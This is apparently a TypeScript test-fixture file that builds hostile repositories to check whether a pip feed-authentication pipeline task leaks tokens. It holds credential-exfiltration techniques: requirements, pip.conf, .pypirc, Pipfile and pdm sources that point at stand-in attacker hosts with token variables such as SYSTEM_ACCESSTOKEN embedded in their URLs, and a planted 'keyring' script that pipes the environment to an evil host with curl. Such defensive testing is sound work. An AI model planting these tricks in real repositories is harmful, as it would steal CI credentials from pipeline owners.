import type { Addresses, HostileRepository, RepositoryFiles } from "../hostile-repository";
import { lookAlikes } from "./addresses";
import { makeWheel } from "./python-texts";

type Files = (at: Addresses) => RepositoryFiles;

/** The feed in the place of the public index, at the organization's own host. */
const feeds = [{ task: "AuthenticatePip@1", inputs: { feeds: "Fabrikam Fiber/fiber" } }];

const as = (address: string): string => address.replace("://", "://VssSessionToken@");

/** With each pip of the machine; what may fail is only asked. */
const download = (words: string, end = " || true"): string =>
  `for python in $PIPS; do $python -m pip download -q --no-cache-dir -d out ${words}${end}; done`;

/** A requirements file of a name that the task does not look for, or of one that it reads. */
const lines =
  (path: string, ...written: readonly ((at: Addresses) => string)[]): Files =>
  (at) => ({ [path]: `${written.map((line) => line(at)).join("\n")}\nfabrikam-greeting\n` });

const ownLine = (at: Addresses): string => `--index-url ${as(at.feed("pypi/simple/"))}`;
const otherLine = (at: Addresses): string =>
  `--extra-index-url ${at.other("pypi/simple/")}\ncontoso-greeting`;

/** A wheel of the repository whose metadata names a file by its address. */
const trap = (address: string): string =>
  `${makeWheel("trap", `bad @ ${address}`)}\n${download("dist/trap-1.0.0-py3-none-any.whl")}`;

const badWheel = "pypi/download/bad/1/bad-1-py3-none-any.whl";
const ownHost = "fabrikam.pkgs.visualstudio.com";

/** Those that end pip before it has asked the others, or that a line writes otherwise, are tried by themselves. */
const odd =
  /^(?:user-port|cyrillic|full-width|ideographic-dot|backslash|backslash-dots|puny|server-collection.*)$/;

const addresses: readonly HostileRepository[] = [
  ...(["services", "server"] as const).map((face) => ({
    id: `pip-look-alikes-${face}`,
    title: `a requirements file with every index that looks like the feed (${face})`,
    face,
    tasks: feeds,
    files: ((at) => {
      const some = lookAlikes.filter((each) => (each.face ?? "services") === face && !odd.test(each.slug));
      const urls = some.map(({ address }) => address(at, "pypi/simple/"));
      return {
        "plain.txt": urls.map((url) => `--extra-index-url ${url}\n`).join("") + "evil\n",
        "named.txt": urls.map((url) => `--extra-index-url ${as(url)}\n`).join("") + "evil\n",
      };
    }) satisfies Files,
    run: `${download("-r plain.txt")}\n${download("-r named.txt")}`,
    expect: "asked" as const,
  })),
  {
    id: "pip-look-alikes-odd",
    title: "options with indexes that programs may read in several ways",
    tasks: feeds,
    files: (at) => ({
      "urls.txt": lookAlikes
        .filter(({ slug, face }) => face !== "server" && odd.test(slug))
        .map(({ address }) => `${address(at, "pypi/simple/")}\n`)
        .join(""),
    }),
    run: `PIPS=\${PIPS##* }\nwhile read -r url; do\n${download('--extra-index-url "$url" evil')}\ndone < urls.txt`,
    expect: "asked",
  },
  {
    id: "pip-second-organization",
    title: "a requirements file with the feed and another organization on its host",
    files: lines("requirements.txt", ownLine, otherLine),
    run: download("-r requirements.txt"),
    expect: "refused",
  },
  {
    id: "pip-second-collection",
    title: "a requirements file with the feed and another collection of the Server",
    face: "server",
    files: lines("requirements.txt", ownLine, otherLine),
    run: download("-r requirements.txt"),
    expect: "refused",
  },
  {
    id: "pip-http-line",
    title: "a requirements file with the feed's host by http",
    tasks: feeds,
    files: lines(
      "requirements.txt",
      () => `--extra-index-url http://${ownHost}/_packaging/fiber/pypi/simple/`,
    ),
    run: download("-r requirements.txt"),
    expect: "refused",
  },
  {
    id: "pip-find-links",
    title: "a requirements file with pages of links elsewhere",
    tasks: feeds,
    files: lines(
      "requirements.txt",
      (at) => `--find-links ${at.evil("links/", "open")}`,
      (at) => `--find-links ${at.other("pypi/simple/contoso-greeting/")}`,
    ),
    run: download("-r requirements.txt"),
    expect: "asked",
    elsewhereAnonymous: true,
  },
  {
    id: "pip-metadata",
    title: "a wheel whose metadata names a file of another organization",
    tasks: feeds,
    files: () => ({ "readme.md": "" }),
    run: (at) => trap(at.other(badWheel)),
    expect: "asked",
    elsewhereAnonymous: true,
  },
  {
    id: "pip-metadata-line",
    title: "the same beside a requirements file that names the feed on the host that organizations share",
    files: lines("requirements.txt", ownLine),
    run: (at) => trap(at.other(badWheel)).replaceAll("dist/trap", "-r requirements.txt dist/trap"),
    expect: "asked",
  },
  {
    id: "pip-metadata-http",
    title: "a wheel whose metadata names a file on the feed's host by http",
    tasks: feeds,
    files: () => ({ "readme.md": "" }),
    run: trap(`http://${ownHost}/${badWheel}`),
    expect: "asked",
  },
  {
    id: "pip-unread-line",
    title: "a file of a name that the task does not look for, with the feed and another organization",
    tasks: feeds,
    files: lines("packages.list", ownLine, otherLine),
    run: download("-r packages.list"),
    expect: "asked",
  },
];

/** Names under which a token could be, as pip takes them: capitals, digits and underscores. */
const names = [
  ...["FEEDPASS_KEYRING_TOKEN", "FEEDPASS_KEYRING_TOKEN_1", "SYSTEM_ACCESSTOKEN"],
  ...["POETRY_PYPI_TOKEN_FEEDPASS1", "FEEDPASS_POETRY_1", "TWINE_PASSWORD"],
];

/** Each at a host of its own, since pip files what an address has by host. */
const named = (at: Addresses): string =>
  names
    .map((name, index) => at.evil("simple/", `n${index}`).replace("://", `://x:\${${name}}@`))
    .map((url) => `--extra-index-url ${url}`)
    .join("\n");

const texts: readonly HostileRepository[] = [
  {
    id: "pip-expand",
    title: "a requirements file that puts variables into the addresses of another host",
    tasks: [...feeds, { task: "AuthenticatePoetry@1", inputs: { feeds: "Fabrikam Fiber/fiber" } }],
    files: lines("requirements.txt", named),
    run: download("-r requirements.txt"),
    expect: "asked",
  },
  {
    id: "pip-expand-publish-credentials",
    title: "the same where the pipeline asked for the variables of clients that publish",
    tasks: [
      {
        task: "AuthenticatePip@1",
        inputs: { feeds: "Fabrikam Fiber/fiber", publishCredentials: "true" },
      },
    ],
    files: lines("requirements.txt", named),
    run: download("-r requirements.txt"),
    expect: "asked",
  },
  {
    id: "pip-trusted-line",
    title: "a requirements file that has the feed's host unchecked",
    tasks: feeds,
    files: lines("requirements.txt", () => `--trusted-host ${ownHost}`),
    run: download("-r requirements.txt"),
    expect: "refused",
  },
  ...(
    [
      [
        "trusted",
        "that has the feed's host unchecked",
        (at) => `proxy = ${at.proxy}\ntrusted-host = ${ownHost}`,
      ],
      ["cert", "with a proxy and its authority", (at) => `proxy = ${at.proxy}\ncert = ci/authority.pem`],
    ] satisfies readonly (readonly [string, string, (at: Addresses) => string])[]
  ).map(([slug, title, text]): HostileRepository => ({
    id: `pip-config-${slug}`,
    title: `a configuration file ${title}, which PIP_CONFIG_FILE names`,
    tasks: feeds,
    files: (at) => ({
      "ci/pip.conf": `[global]\n${text(at)}\n`,
      "ci/authority.pem": at.untrustedAuthority,
    }),
    variables: () => ({ PIP_CONFIG_FILE: "ci/pip.conf" }),
    without: ["PIP_CERT", "REQUESTS_CA_BUNDLE"],
    run: download("fabrikam-greeting"),
    expect: "refused",
  })),
  {
    id: "pip-config-indexes",
    title: "a configuration file with indexes of others, which PIP_CONFIG_FILE names",
    tasks: feeds,
    files: (at) => ({
      "ci/pip.conf": `[global]\nindex-url = ${as(at.other("pypi/simple/"))}\nextra-index-url = ${as(at.evil("simple/"))}\n    ${at.evil("simple/", "open")}\n`,
    }),
    variables: () => ({ PIP_CONFIG_FILE: "ci/pip.conf" }),
    run: `${download("fabrikam-greeting")}\nfor python in $PIPS; do PIP_INDEX_URL= PIP_EXTRA_INDEX_URL= $python -m pip download -q -d out evil || true; done`,
    expect: "asked",
  },
  {
    id: "pip-innocent-programs",
    title: "programs and modules of the names that pip and Python look for",
    tasks: feeds,
    files: (at) => ({
      keyring: `#!/bin/sh\nenv | curl -s --data-binary @- ${at.evil("keyring", "open")}\n`,
      "keyring.py": `raise SystemExit("the repository's keyring")\n`,
      "sitecustomize.py": `raise SystemExit("the repository's sitecustomize")\n`,
    }),
    run: `chmod +x keyring\n${download("fabrikam-greeting", "")}`,
    expect: "works",
  },
];

/** twine, pipenv and pdm. */
const kin: readonly HostileRepository[] = [
  ...[false, true].map((given): HostileRepository => ({
    id: given ? "pip-pypirc-publish-credentials" : "pip-pypirc",
    title: `a .pypirc with repositories of others${given ? ", beside the variables that the pipeline asked for" : ""}`,
    tasks: [
      {
        task: "AuthenticatePip@1",
        inputs: {
          feeds: "Fabrikam Fiber/fiber",
          ...(given ? { publishCredentials: "true" } : {}),
        },
      },
    ],
    files: (at) => ({
      ".pypirc": `[distutils]\nindex-servers =\n  fiber\n  parts\n[fiber]\nrepository = ${at.evil("upload/")}\nusername = VssSessionToken\n[parts]\nrepository = ${at.other("pypi/upload/")}\nusername = VssSessionToken\n`,
    }),
    run: `${makeWheel("stolen")}\nunset TWINE_REPOSITORY_URL\nfor name in fiber parts; do $TWINE -m twine upload --non-interactive --config-file .pypirc -r $name dist/*.whl || true; done`,
    expect: "asked",
  })),
  {
    id: "pip-pipfile",
    title: "a Pipfile with variables in another host's address, and the feed under its name",
    files: (at) => ({
      Pipfile: `[[source]]\nname = "fiber"\nurl = "${at.feed("pypi/simple/")}"\nverify_ssl = true\n\n[[source]]\nname = "Fiber"\nurl = "${at.evil("simple/").replace("://", "://x:${TWINE_PASSWORD}$FEEDPASS_KEYRING_TOKEN_@")}"\nverify_ssl = true\n\n[packages]\nevil = { version = "*", index = "Fiber" }\nfabrikam-greeting = { version = "*", index = "fiber" }\n`,
    }),
    run: "$PIPENV -m pipenv lock || true",
    expect: "asked",
  },
  {
    id: "pip-pdm",
    title: "sources of pdm with variables in another host's address, under the feed's name",
    tasks: feeds,
    files: (at) => ({
      "pyproject.toml": `[project]\nname = "app"\nversion = "1.0.0"\nrequires-python = ">=3.9"\ndependencies = ["evil"]\n\n[[tool.pdm.source]]\nname = "extra"\nurl = "${at.evil("simple/").replace("://", "://x:${TWINE_PASSWORD}${FEEDPASS_KEYRING_TOKEN_}@")}"\n`,
    }),
    run: "$PDM -m pdm lock || true",
    expect: "asked",
  },
];

export const pipRepositories: readonly HostileRepository[] = [...addresses, ...texts, ...kin];
